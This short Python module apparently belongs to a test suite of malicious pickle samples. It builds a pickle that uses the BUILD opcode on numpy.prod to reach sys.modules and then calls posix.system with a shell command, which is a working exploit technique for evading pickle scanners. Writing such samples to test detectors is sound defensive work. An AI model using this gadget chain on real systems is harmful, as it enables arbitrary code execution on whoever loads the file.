"""BUILD sets attributes on a function, to reach sys.modules through it."""

from __future__ import annotations

from malicious_samples.recipes import shell
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    modules = Name("numpy", "_core._internal.sys.modules")
    p = Pickle().save(Name("numpy", "prod"), (None, modules)).build().pop()
    return p.call(Name("numpy", "prod.posix.system"), shell(canary)).finish()
